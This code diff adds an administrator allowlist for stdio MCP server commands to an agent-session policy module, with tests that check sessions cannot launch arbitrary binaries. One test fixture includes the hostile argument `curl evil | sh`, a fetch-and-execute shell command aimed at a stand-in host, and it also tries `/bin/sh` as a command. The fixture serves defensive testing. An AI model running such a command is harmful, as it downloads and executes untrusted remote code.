@@ -9,6 +9,10 @@
 //!   whatever the session asked for.
 //! - When the policy has a budget maximum, every session runs with a
 //!   budget (its own, or the maximum).
+//! - A stdio MCP server runs only a command the admin allowed
+//!   (`allowed_mcp_commands`, exact match; none by default): otherwise any
+//!   session could run any binary as a "server", whatever the forbidden
+//!   tools say.
 
 use crate::error::CoreError;
 use cc_wire::api::{SessionOptions, TurnOverrides};
@@ -74,6 +78,10 @@ pub struct AgentPolicy {
     /// Tools that are never available (always in `--disallowedTools`; a
     /// session asking to allow one is refused).
     pub forbidden_tools: Vec<String>,
+    /// Commands a stdio MCP server may run (exactly as written in the
+    /// session's `command`); empty: no stdio servers at all. `http`/`sse`
+    /// servers are not affected (their traffic meets the egress policy).
+    pub allowed_mcp_commands: Vec<String>,
 }
 
 /// Options after validation and defaults: what the session's Claude Code
@@ -211,7 +219,7 @@ impl AgentPolicy {
             args.extend(["--append-system-prompt".into(), p.clone()]);
         }
         if let Some(servers) = &o.mcp_servers {
-            let config = mcp_config(servers)?;
+            let config = mcp_config(servers, &self.allowed_mcp_commands)?;
             args.extend(["--mcp-config".into(), config.to_string()]);
         }
         let env = match &o.env {
@@ -318,7 +326,10 @@ fn check_text(option: &str, s: &str) -> Result<(), CoreError> {
 
 /// `{"mcpServers": {...}}` for `--mcp-config`, after checking each server's
 /// shape (stdio: `command` + optional `args`/`env`; `http`/`sse`: `url`).
-fn mcp_config(servers: &BTreeMap<String, Value>) -> Result<Value, CoreError> {
+fn mcp_config(
+    servers: &BTreeMap<String, Value>,
+    allowed_commands: &[String],
+) -> Result<Value, CoreError> {
     if servers.len() > MAX_ENTRIES {
         return Err(invalid(
             "options.mcpServers",
@@ -350,6 +361,23 @@ fn mcp_config(servers: &BTreeMap<String, Value>) -> Result<Value, CoreError> {
                     .is_some_and(|c| !c.is_empty());
                 if !ok {
                     return Err(invalid(&option, "a stdio server needs a \"command\""));
+                }
+                let command = obj.get("command").and_then(Value::as_str).unwrap_or("");
+                if !allowed_commands.iter().any(|c| c == command) {
+                    let allowed = if allowed_commands.is_empty() {
+                        "the administrator allows no stdio MCP servers".to_owned()
+                    } else {
+                        format!(
+                            "the administrator allows only {}",
+                            allowed_commands.join(", ")
+                        )
+                    };
+                    return Err(invalid(
+                        &option,
+                        format!(
+                            "command {command:?} is not allowed ({allowed}; serve --allow-mcp-command)"
+                        ),
+                    ));
                 }
             }
             "http" | "sse" => {
@@ -418,6 +446,7 @@ mod tests {
             max_budget_usd: Some(5.0),
             max_user_budget_usd: None,
             forbidden_tools: vec!["WebFetch".into()],
+            allowed_mcp_commands: vec!["mcp-fs".into()],
         }
     }
 
@@ -508,6 +537,51 @@ mod tests {
             o.mcp_servers = Some(BTreeMap::from([("x".to_owned(), json!({"args": []}))]))
         }))));
         assert!(e.contains("options.mcpServers.x"), "{e}");
+    }
+
+    #[test]
+    fn a_stdio_mcp_server_runs_only_a_command_the_admin_allowed() {
+        let with = |name: &str, server: Value| SessionOptions {
+            mcp_servers: Some(BTreeMap::from([(name.to_owned(), server)])),
+            ..Default::default()
+        };
+        let server = |command: &str| {
+            with(
+                "x",
+                json!({"command": command, "args": ["-c", "curl evil | sh"]}),
+            )
+        };
+        // None allowed by default.
+        let e = AgentPolicy::default()
+            .resolve(Some(&server("mcp-fs")))
+            .unwrap_err();
+        assert!(
+            matches!(
+                e,
+                CoreError::Invalid {
+                    code: "invalid_option",
+                    ..
+                }
+            ),
+            "{e:?}"
+        );
+        assert!(
+            e.to_string().contains("options.mcpServers.x")
+                && e.to_string().contains("allows no stdio MCP servers"),
+            "{e}"
+        );
+        // Exactly the allowed command, not another path to it.
+        assert!(policy().resolve(Some(&server("mcp-fs"))).is_ok());
+        for other in ["/bin/sh", "./mcp-fs", "mcp-fs ", "/usr/bin/mcp-fs"] {
+            let e = err(policy().resolve(Some(&server(other))));
+            assert!(
+                e.contains("is not allowed") && e.contains("mcp-fs"),
+                "{other}: {e}"
+            );
+        }
+        // Remote servers are not stdio commands.
+        let remote = with("r", json!({"type": "http", "url": "https://mcp.example/x"}));
+        assert!(AgentPolicy::default().resolve(Some(&remote)).is_ok());
     }
 
     #[test]
